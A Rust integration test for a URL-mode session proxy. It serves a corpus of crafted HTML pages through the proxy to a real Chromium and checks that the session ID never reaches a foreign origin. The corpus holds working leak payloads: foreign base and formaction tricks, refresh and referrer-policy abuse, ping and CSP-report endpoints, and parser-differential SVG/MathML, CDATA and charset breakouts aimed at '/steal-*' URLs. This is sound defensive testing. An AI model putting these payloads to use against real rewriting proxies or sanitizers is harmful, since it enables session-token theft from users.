//! The browser is the oracle: a corpus of tricky documents is served
//! through the proxy to a real Chromium with cookies blocked (URL mode),
//! every link, submit button, form, refresh and subresource in them is
//! actually followed, and a foreign-origin server records everything that
//! reaches it. The session ID must never be among it.
//!
//! `bash tests/run.sh` installs Chromium; without it this test fails.

mod support;

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use http::{Request, Response, StatusCode};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use support::chromium::Chromium;
use support::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// One document of the corpus: its HTML (`FOREIGN` stands for the foreign
/// origin), extra response headers, and what to do once it is shown: each
/// action runs on a fresh load of the page.
struct Doc {
    name: &'static str,
    html: &'static str,
    headers: &'static [(&'static str, &'static str)],
    actions: &'static [&'static str],
}

const AUTO: &str = "void 0";

/// Not a header: the corpus app sends that document's body in UTF-16LE,
/// after its byte-order mark.
const ENCODE: &str = "x-corpus-encode";

/// Pages the proxy may end early (text a browser may read as markup, with
/// a `<` in it: a CDATA section, a text-only element after SVG or MathML):
/// the browser may never finish loading them; it gets a moment, then moves
/// on.
const CUT: &str = "void 'cut'";

/// Documents that leak the page's address when served without the proxy.
const CONTROLS: &[&str] = &[
    "page-referrer-policy",
    "no-content-type",
    "two-content-types",
    "xml-document",
    "utf16-bom",
    "svg-cdata-preload",
    "math-cdata-meta-referrer",
    "selfclosed-svg-cdata",
    "annotation-xml-two-encodings",
    "foreignobject-reentry-style",
    "selfclosed-svg-style-comment",
    "svg-style-comment-preload",
    "annotation-xml-charref-encoding",
    "iso-2022-jp-meta",
    "charset-decoy-in-quotes",
    "charset-with-spaces",
];

const CORPUS: &[Doc] = &[
    Doc {
        name: "late-base",
        html: "<a id=a href=\"rel\">rel</a><a id=b href=\"/abs\">abs</a><base href=\"FOREIGN/\">",
        headers: &[],
        actions: &["document.getElementById('a').click()", "document.getElementById('b').click()"],
    },
    Doc {
        name: "encoded-base",
        html: "<base href=\"&#x2F;&#x2F;FOREIGN_HOST&#47\"><a id=a href=\"rel\">rel</a>",
        headers: &[],
        actions: &["document.getElementById('a').click()"],
    },
    Doc {
        name: "template-base",
        html: "<template><base href=\"FOREIGN/\"></template><svg><base href=\"FOREIGN/\"></base></svg>\
               <a id=a href=\"rel\">rel</a>",
        headers: &[],
        actions: &["document.getElementById('a').click()"],
    },
    Doc {
        name: "foreign-formaction",
        html: "<form action=\"/search\"><input name=q value=tea>\
               <button id=go formaction=\"FOREIGN/steal-get\">go</button>\
               <button id=own>own</button></form>",
        headers: &[],
        actions: &["document.getElementById('go').click()", "document.getElementById('own').click()"],
    },
    Doc {
        name: "post-formaction-get",
        html: "<form method=post action=\"/post\"><input name=m value=hi>\
               <button id=go formmethod=get formaction=\"FOREIGN/steal-post\">go</button></form>",
        headers: &[],
        actions: &["document.getElementById('go').click()"],
    },
    Doc {
        name: "nested-forms",
        html: "<form action=\"FOREIGN/steal-nested\"><form action=\"/own\"><input name=q value=1>\
               <input id=go type=submit></form></form>",
        headers: &[],
        actions: &["document.getElementById('go').click()"],
    },
    Doc {
        name: "form-attribute",
        html: "<form id=mine action=\"/own\"><input name=q value=1></form>\
               <form action=\"FOREIGN/steal-owner\"><button id=go form=mine formaction=\"FOREIGN/steal-form-attr\">go</button></form>\
               <input form=mine type=submit id=own>",
        headers: &[],
        actions: &["document.getElementById('go').click()", "document.getElementById('own').click()"],
    },
    Doc {
        name: "refresh-misparse",
        html: "<meta http-equiv=refresh content=\"0; FOREIGN/refresh?url=/x\">",
        headers: &[],
        actions: &[AUTO],
    },
    Doc {
        name: "refresh-header",
        html: "<p>moving on</p>",
        headers: &[("refresh", "0; url=FOREIGN/refresh-header")],
        actions: &[AUTO],
    },
    Doc {
        name: "page-referrer-policy",
        html: "<meta name=referrer content=unsafe-url><a id=a href=\"FOREIGN/referer\">x</a>\
               <img src=\"FOREIGN/img-referer.png\">",
        headers: &[("referrer-policy", "unsafe-url")],
        actions: &["document.getElementById('a').click()"],
    },
    // A preload scanner ends `<![CDATA[` at the first `>` and fetches what
    // it then reads as tags, with their referrer policy (review 14).
    Doc {
        name: "svg-cdata-preload",
        html: "<svg><![CDATA[><img referrerpolicy=unsafe-url src=\"FOREIGN/cdata-img.png\">]]></svg>",
        headers: &[],
        actions: &[CUT],
    },
    Doc {
        name: "math-cdata-meta-referrer",
        html: "<math><![CDATA[><meta name=referrer content=unsafe-url>]]></math>\
               <img src=\"FOREIGN/cdata-meta-img.png\">",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html reads CDATA after a self-closed <svg/>; Chromium, back in
    // HTML, a comment and then the tag (review 15).
    Doc {
        name: "selfclosed-svg-cdata",
        html: "<svg/><![CDATA[><img referrerpolicy=unsafe-url src=\"FOREIGN/selfclosed-cdata.png\">]]>",
        headers: &[],
        actions: &[CUT],
    },
    // Chromium takes the first `encoding`: MathML, where the <img> in the
    // <style> breaks out as a real element (review 15).
    Doc {
        name: "annotation-xml-two-encodings",
        html: "<math><annotation-xml encoding=x encoding=text/html><style>\
               <img referrerpolicy=unsafe-url src=\"FOREIGN/two-encodings.png\"></style></annotation-xml></math>",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html back in HTML where Chromium is in SVG again: a style's
    // text to one is a real <img> to the other (review 16).
    Doc {
        name: "foreignobject-reentry-style",
        html: "<svg><foreignObject><div></foreignObject></svg></div></foreignObject>\
               <style><img referrerpolicy=unsafe-url src=\"FOREIGN/reentry.png\"></style>",
        headers: &[],
        actions: &[CUT],
    },
    // Review 17: lol_html reads a <style> after <svg/> as SVG, holding a
    // comment; Chromium, back in HTML, ends the style at </style>.
    Doc {
        name: "selfclosed-svg-style-comment",
        html: "<svg/><style><!--</style><iframe referrerpolicy=unsafe-url src=\"FOREIGN/r17-selfclosed\"></iframe>-->",
        headers: &[],
        actions: &[CUT],
    },
    // Review 17: Chromium's preload scanner reads a <style> in SVG as
    // HTML's raw text, and fetches the <img> after its </style>.
    Doc {
        name: "svg-style-comment-preload",
        html: "<svg><style><!--</style><img referrerpolicy=unsafe-url src=\"FOREIGN/r17-preload.png\">-->",
        headers: &[],
        actions: &[CUT],
    },
    // Review 17: Chromium decodes the character reference (an HTML
    // integration point, a <style> of raw text); lol_html does not.
    Doc {
        name: "annotation-xml-charref-encoding",
        html: "<math><annotation-xml encoding=&#116;ext/html><style><!--</style>\
               <iframe referrerpolicy=unsafe-url src=\"FOREIGN/r17-charref\"></iframe>-->",
        headers: &[],
        actions: &[CUT],
    },
    // Review 17: with no charset in the Content-Type, Chromium follows the
    // <meta>; in ISO-2022-JP, `ESC $ B <!-- ESC ( B` is two kanji.
    Doc {
        name: "iso-2022-jp-meta",
        html: "<!doctype html><meta charset=iso-2022-jp><title>jis</title>\x1b$B<!--\x1b(B\
               <img referrerpolicy=unsafe-url src=\"FOREIGN/r17-jis.png\">-->",
        headers: &[("content-type", "text/html")],
        actions: &[CUT],
    },
    // Review 18: a `;charset=` inside a quoted parameter is no parameter
    // to Chromium, which reads the real one, ISO-2022-JP.
    Doc {
        name: "charset-decoy-in-quotes",
        html: "<!doctype html><title>decoy</title>\x1b$B<!--\x1b(B\
               <img referrerpolicy=unsafe-url src=\"FOREIGN/r18-decoy.png\">-->",
        headers: &[("content-type", "text/html; x=\"a;charset=utf-8\"; charset=iso-2022-jp")],
        actions: &[CUT],
    },
    // Review 18: `charset = utf-8` names no charset to Chromium, which
    // then follows the page's <meta>.
    Doc {
        name: "charset-with-spaces",
        html: "<!doctype html><meta charset=iso-2022-jp><title>spaces</title>\x1b$B<!--\x1b(B\
               <img referrerpolicy=unsafe-url src=\"FOREIGN/r18-spaces.png\">-->",
        headers: &[("content-type", "text/html; charset = utf-8")],
        actions: &[CUT],
    },
    Doc {
        name: "element-referrer-policy",
        html: "<a id=a referrerpolicy=unsafe-url href=\"FOREIGN/rp-link\">x</a>\
               <img referrerpolicy=unsafe-url src=\"FOREIGN/rp-img.png\">\
               <iframe referrerpolicy=unsafe-url src=\"FOREIGN/rp-frame\"></iframe>",
        headers: &[],
        actions: &["document.getElementById('a').click()"],
    },
    Doc {
        name: "ping",
        html: "<a id=a href=\"/own\" ping=\"FOREIGN/ping\">x</a><a id=b href=\"FOREIGN/ping-away\" ping=\"FOREIGN/ping2\">y</a>",
        headers: &[],
        actions: &["document.getElementById('a').click()", "document.getElementById('b').click()"],
    },
    Doc {
        name: "srcdoc",
        html: "<iframe srcdoc=\"<meta name=referrer content=unsafe-url><img src='FOREIGN/srcdoc-img.png'>\
               <a id=x target=_top href='FOREIGN/srcdoc-link'>x</a>\"></iframe>",
        headers: &[],
        actions: &[AUTO],
    },
    Doc {
        name: "character-references",
        html: "<a id=a href=\"&#47;&#47;FOREIGN_HOST/cr\">a</a><a id=b href=\"/x&#35;&#47;&#47;FOREIGN_HOST\">b</a>\
               <a id=c href=\"&#47&#47FOREIGN_HOST/cr2\">c</a><a id=d href=\"/ok&amp;x=&#x2F;\">d</a>",
        headers: &[],
        actions: &[
            "document.getElementById('a').click()",
            "document.getElementById('b').click()",
            "document.getElementById('c').click()",
            "document.getElementById('d').click()",
        ],
    },
    Doc {
        name: "redirect-away",
        html: "<a id=a href=\"/go-away\">away</a><a id=b href=\"/go-home\">home</a>",
        headers: &[],
        actions: &["document.getElementById('a').click()", "document.getElementById('b').click()"],
    },
    Doc {
        name: "csp-report",
        html: "<img src=\"/blocked.png\"><p>report me</p>",
        headers: &[(
            "content-security-policy",
            "img-src 'none'; report-uri FOREIGN/csp-report",
        )],
        actions: &[AUTO],
    },
    Doc {
        name: "link-header",
        html: "<p>preloads</p>",
        headers: &[(
            "link",
            "<FOREIGN/link-preload.png>; rel=preload; as=image; referrerpolicy=unsafe-url",
        )],
        actions: &[AUTO],
    },
    Doc {
        name: "redirecting-subresources",
        html: "<img src=\"/redir?to=FOREIGN/rd-img.png\">\
               <link rel=stylesheet href=\"/redir?to=FOREIGN/rd-css.css\">",
        headers: &[],
        actions: &[AUTO],
    },
    Doc {
        name: "speculation-inline",
        html: "<script type=\"speculationrules\">{\"prefetch\":[{\"source\":\"list\",\
               \"urls\":[\"FOREIGN/spec-inline\"],\"referrer_policy\":\"unsafe-url\"}]}</script><p>x</p>",
        headers: &[],
        actions: &[AUTO],
    },
    Doc {
        name: "speculation-header",
        html: "<p>x</p>",
        headers: &[("speculation-rules", "\"/rules.json\"")],
        actions: &[AUTO],
    },
    // lol_html stays in SVG where Chromium has left it (an outside review).
    Doc {
        name: "svg-selfclosing-style",
        html: "<svg/><style><a title=\"</style><img src='FOREIGN/svg-selfclosing-style?\" href=\"/x\" id=\"'>\">x</a></style>",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html stays in SVG where Chromium has left it (an outside review).
    Doc {
        name: "svg-closed-by-div",
        html: "<div><svg></div><style><a title=\"</style><img src='FOREIGN/svg-closed-by-div?\" href=\"/x\" id=\"'>\">x</a></style>",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html stays in SVG where Chromium has left it (an outside review).
    Doc {
        name: "svg-nested-p",
        html: "<svg><svg><p><style><a title=\"</style><img src='FOREIGN/svg-nested-p?\" href=\"/x\" id=\"'>\">x</a></style>",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html stays in SVG where Chromium has left it (an outside review).
    Doc {
        name: "svg-closed-by-td",
        html: "<table><tr><td><svg></td><td><style><a title=\"</style><img src='FOREIGN/svg-closed-by-td?\" href=\"/x\" id=\"'>\">x</a></style>",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html stays in SVG where Chromium has left it (an outside review).
    Doc {
        name: "svg-desc-div",
        html: "<svg><desc><div></desc><style><a title=\"</style><img src='FOREIGN/svg-desc-div?\" href=\"/x\" id=\"'>\">x</a></style>",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html stays in SVG where Chromium has left it (an outside review).
    Doc {
        name: "math-mi-svg-textarea",
        html: "<math><mi><svg></mi><textarea><a title=\"</textarea><img src='FOREIGN/math-mi-svg-textarea?\" href=\"/x\" id=\"'>\">x</a></textarea>",
        headers: &[],
        actions: &[CUT],
    },
    // lol_html stays in SVG where Chromium has left it (an outside review).
    Doc {
        name: "svg-selfclosing-title",
        html: "<svg/><title><a title=\"</title><img src='FOREIGN/svg-selfclosing-title?\" href=\"/x\" id=\"'>\">x</a></title>",
        headers: &[],
        actions: &[CUT],
    },
    Doc {
        name: "svg-style-comment",
        html: "<div><svg></div><style><!--</style><img src='FOREIGN/svg-style-comment?--></style><a href=/x>'>",
        headers: &[],
        actions: &[CUT],
    },
    Doc {
        name: "svg-style-cdata",
        html: "<div><svg></div><style><![CDATA[</style><img src='FOREIGN/svg-style-cdata?]]></style><a href=/x>'>",
        headers: &[],
        actions: &[CUT],
    },
    Doc {
        name: "svg-title-attribute",
        html: "<div><svg></div><title><b title=\"</title><img src='FOREIGN/svg-title-attribute?\"></title><a href=/x>'>",
        headers: &[],
        actions: &[CUT],
    },
    // A CDATA section at an integration point: one to Chromium, a bogus
    // comment to lol_html (an outside review).
    Doc {
        name: "foreignobject-cdata",
        html: "<svg><foreignObject><![CDATA[><b title=\"]]><img src='FOREIGN/foreignobject-cdata?\"><a href=\"/x\">'>",
        headers: &[],
        actions: &[CUT],
    },
    Doc {
        name: "mathml-mglyph-style",
        html: "<math><mi><mglyph><style><img src=\"FOREIGN/mglyph-img\" referrerpolicy=\"unsafe-url\"></style></mglyph></mi></math>",
        headers: &[],
        actions: &[CUT],
    },
    Doc {
        name: "mathml-malignmark-title",
        html: "<math><mi><malignmark><title><img src=\"FOREIGN/malignmark-img\"><meta name=\"referrer\" content=\"unsafe-url\"></title></malignmark></mi></math><img src=\"FOREIGN/malignmark-after\">",
        headers: &[],
        actions: &[CUT],
    },
    // Bodies the rewriter cannot read must not reach the browser as they are.
    Doc {
        name: "xml-document",
        html: "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><meta name=\"referrer\" content=\"unsafe-url\"/></head>\
               <body><img src=\"FOREIGN/xml-img.png\"/><a id=\"a\" href=\"/own\" ping=\"FOREIGN/xml-ping\">a</a></body></html>",
        headers: &[("content-type", "text/xml")],
        actions: &["document.getElementById('a') && document.getElementById('a').click()"],
    },
    Doc {
        name: "no-content-type",
        html: "<html><head><meta name=referrer content=unsafe-url></head><body><img src=\"FOREIGN/sniffed-img.png\">\
               <a id=a href=\"/own\" ping=\"FOREIGN/sniffed-ping\">a</a>",
        headers: &[("content-type", "")],
        actions: &["document.getElementById('a') && document.getElementById('a').click()"],
    },
    Doc {
        name: "two-content-types",
        html: "<html><head><meta name=referrer content=unsafe-url></head><body><img src=\"FOREIGN/two-ct-img.png\">",
        headers: &[("content-type", "text/plain"), ("content-type", "text/html")],
        actions: &[AUTO],
    },
    Doc {
        name: "utf16-bom",
        html: "<html><head><meta name=referrer content=unsafe-url></head><body><img src=\"FOREIGN/utf16-img.png\">\
               <a id=a href=\"/own\" ping=\"FOREIGN/utf16-ping\">a</a>",
        headers: &[("content-type", "text/html; charset=utf-8"), (ENCODE, "utf-16le")],
        // The proxy ends it, empty, at the byte-order mark.
        actions: &[CUT],
    },
    Doc {
        name: "cached-redirect-1",
        html: "<link rel=stylesheet href=\"/cached.css\"><p>styled</p>",
        headers: &[],
        actions: &[AUTO],
    },
    Doc {
        name: "cached-redirect-2",
        html: "<img src=\"/cached-redirect\"><p>again</p>",
        headers: &[],
        actions: &[AUTO],
    },
    Doc {
        name: "lookalike-hosts",
        html: "<a id=a href=\"http://localhost:PROXY_PORT/x\">a</a><a id=b href=\"/\\FOREIGN_HOST/y\">b</a>\
               <a id=c href=\"HTTP://FOREIGN_HOST/z\">c</a>",
        headers: &[],
        actions: &[
            "document.getElementById('a').click()",
            "document.getElementById('b').click()",
            "document.getElementById('c').click()",
        ],
    },
];

/// Everything the foreign server received: request heads and bodies.
#[derive(Default, Clone)]
struct Foreign {
    seen: Arc<Mutex<Vec<String>>>,
}

impl Foreign {
    async fn start() -> (Foreign, SocketAddr) {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let foreign = Foreign::default();
        let seen = foreign.seen.clone();
        tokio::spawn(async move {
            loop {
                let Ok((mut conn, _)) = listener.accept().await else {
                    continue;
                };
                let seen = seen.clone();
                tokio::spawn(async move {
                    let mut buf = Vec::new();
                    let mut chunk = [0u8; 4096];
                    // Read for a moment: the head and whatever body follows.
                    while let Ok(Ok(n)) =
                        tokio::time::timeout(Duration::from_millis(150), conn.read(&mut chunk))
                            .await
                    {
                        if n == 0 {
                            break;
                        }
                        buf.extend_from_slice(&chunk[..n]);
                    }
                    if !buf.is_empty() {
                        seen.lock()
                            .unwrap()
                            .push(String::from_utf8_lossy(&buf).into_owned());
                    }
                    let _ = conn
                        .write_all(
                            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 15\r\n\
                              Connection: close\r\n\r\n<p>foreign</p>\n",
                        )
                        .await;
                });
            }
        });
        (foreign, addr)
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// The application: the corpus under `/doc/NAME`, a redirect away and one
/// home, and a plain page for anything else.
async fn corpus_app(foreign: SocketAddr, proxy_port: Arc<Mutex<u16>>) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                continue;
            };
            let proxy_port = proxy_port.clone();
            tokio::spawn(async move {
                let svc = service_fn(move |req: Request<Incoming>| {
                    let port = *proxy_port.lock().unwrap();
                    async move { Ok::<_, Infallible>(corpus_page(&req, foreign, port)) }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), svc)
                    .await;
            });
        }
    });
    addr
}

fn fill(text: &str, foreign: SocketAddr, proxy_port: u16) -> String {
    text.replace("FOREIGN_HOST", &foreign.to_string())
        .replace("FOREIGN", &format!("http://{foreign}"))
        .replace("PROXY_PORT", &proxy_port.to_string())
}

fn corpus_page(
    req: &Request<Incoming>,
    foreign: SocketAddr,
    proxy_port: u16,
) -> Response<TestBody> {
    let path = req.uri().path();
    let mut resp = Response::new(empty());
    let doc = path
        .strip_prefix("/doc/")
        .and_then(|n| CORPUS.iter().find(|d| d.name == n));
    match (path, doc) {
        (_, Some(doc)) => {
            // A document with a Content-Type of its own is served exactly
            // as written (an XML one must stay well-formed); the others as
            // HTML, titled with their name.
            let own_type = doc.headers.iter().any(|(n, _)| *n == "content-type");
            let html = fill(doc.html, foreign, proxy_port);
            let html = if own_type {
                html
            } else {
                format!("<!doctype html><title>{}</title>{html}", doc.name)
            };
            let body = if doc.headers.contains(&(ENCODE, "utf-16le")) {
                let mut bytes = vec![0xFF, 0xFE];
                bytes.extend(html.encode_utf16().flat_map(u16::to_le_bytes));
                bytes
            } else {
                html.into_bytes()
            };
            resp = Response::new(full(body));
            // Appended: a document may send a header twice.
            for (name, value) in doc.headers.iter().filter(|(n, _)| *n != ENCODE) {
                resp.headers_mut()
                    .append(*name, fill(value, foreign, proxy_port).parse().unwrap());
            }
        }
        ("/go-away", _) => {
            *resp.status_mut() = StatusCode::FOUND;
            resp.headers_mut().insert(
                "location",
                format!("http://{foreign}/redirected").parse().unwrap(),
            );
        }
        ("/redir", _) => {
            // A same-origin subresource that redirects away, with a policy
            // that would send the page's full address along.
            let to = req
                .uri()
                .query()
                .and_then(|q| q.strip_prefix("to="))
                .unwrap_or("/");
            *resp.status_mut() = StatusCode::FOUND;
            resp.headers_mut().insert("location", to.parse().unwrap());
            resp.headers_mut()
                .insert("referrer-policy", "unsafe-url".parse().unwrap());
            return resp;
        }
        ("/rules.json", _) => {
            let rules = format!(
                "{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"http://{foreign}/spec-header\"],\"referrer_policy\":\"unsafe-url\"}}]}}"
            );
            resp = Response::new(full(rules));
            resp.headers_mut().insert(
                "content-type",
                "application/speculationrules+json".parse().unwrap(),
            );
            return resp;
        }
        ("/go-home", _) => {
            *resp.status_mut() = StatusCode::FOUND;
            resp.headers_mut()
                .insert("location", "/home".parse().unwrap());
        }
        _ => resp = Response::new(full("<!doctype html><p>landed</p>")),
    }
    if !resp.headers().contains_key("content-type") {
        resp.headers_mut()
            .insert("content-type", "text/html; charset=utf-8".parse().unwrap());
    }
    resp
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chromium_in_url_mode_never_sends_the_id_to_another_origin() {
    let (foreign, foreign_addr) = Foreign::start().await;
    let proxy_port = Arc::new(Mutex::new(0));
    let app = corpus_app(foreign_addr, proxy_port.clone()).await;
    let proxy = Proxy::start_url(&format!("http://{app}"), "", "").await;
    *proxy_port.lock().unwrap() = proxy.addr.port();
    let mut chrome = Chromium::start(true).await;

    // Into URL mode the way a cookie-refusing browser gets there: the probe.
    chrome.navigate(&proxy.url("/doc/late-base")).await;
    let address = chrome.wait_for("/doc/late-base").await;
    let ticket = address
        .split("CLOAKROOMSID=")
        .nth(1)
        .unwrap_or_else(|| panic!("not in URL mode: {address}"))
        .split(['&', '#'])
        .next()
        .unwrap()
        .to_owned();
    let id = ticket.split('.').next().unwrap().to_owned();
    assert_eq!(id.len(), 54, "{ticket}");

    let mut actions = 0;
    for doc in CORPUS {
        for action in doc.actions {
            let url = proxy.url(&format!("/doc/{}?CLOAKROOMSID={ticket}", doc.name));
            let path = format!("/doc/{}", doc.name);
            if *action == CUT {
                chrome.navigate(&url).await;
                tokio::time::sleep(Duration::from_millis(1000)).await;
                actions += 1;
                continue;
            }
            if *action == AUTO {
                // It may move on before it is seen; where it went is
                // checked below (what the foreign server must have seen).
                chrome.open_moving_on(&url, &path).await;
            } else {
                chrome.navigate(&url).await;
                chrome.wait_for(&path).await;
            }
            chrome.eval(action).await;
            // Let navigations, pings, reports and subresources happen.
            tokio::time::sleep(Duration::from_millis(500)).await;
            actions += 1;
        }
    }
    assert!(actions >= 25);

    // Controls: some documents straight from the application, with a marker
    // where the ticket would be. They must leak it (else they prove nothing
    // about the proxy); through the proxy, above, they must not.
    for doc in CONTROLS {
        let url = format!("http://{app}/doc/{doc}?control=MARK-{doc}");
        chrome.navigate(&url).await;
        chrome.wait_for(&format!("/doc/{doc}")).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let requests = foreign.requests();
    for doc in CONTROLS {
        assert!(
            requests
                .iter()
                .any(|r| r.contains(&format!("control=MARK-{doc}"))),
            "the control for {doc} did not leak without the proxy: the document tests nothing"
        );
    }
    let requests: Vec<String> = requests
        .into_iter()
        .filter(|r| !r.contains("control=MARK-"))
        .collect();
    if std::env::var("LEAKS_DEBUG").is_ok() {
        for r in &requests {
            let first = r.lines().next().unwrap_or("");
            let referer = r
                .lines()
                .find(|l| l.to_ascii_lowercase().starts_with("referer"))
                .unwrap_or("");
            eprintln!("FOREIGN {first} | {referer}");
        }
    }
    // The foreign links were really followed (else this test proves nothing).
    for must in [
        "/steal-get",
        "/steal-nested",
        "/refresh?url=",
        "/refresh-header",
        "/referer",
        "/redirected",
        "/cr ",
        // The documents where Chromium read a link's text as an image of
        // the foreign site (svg-selfclosing-style and the like) now end at
        // the <style> or <title> lol_html reads as SVG (review 17): their
        // image is never fetched.
    ] {
        assert!(
            requests.iter().any(|r| r.contains(must)),
            "the browser never reached {must} on the foreign site; it saw {:#?}",
            requests
                .iter()
                .map(|r| r.lines().next().unwrap_or(""))
                .collect::<Vec<_>>()
        );
    }
    for request in &requests {
        assert!(
            !request.contains(&id),
            "the session ID reached another origin:\n{request}"
        );
        assert!(
            !request.contains("CLOAKROOMSID"),
            "the session parameter reached another origin:\n{request}"
        );
    }
}
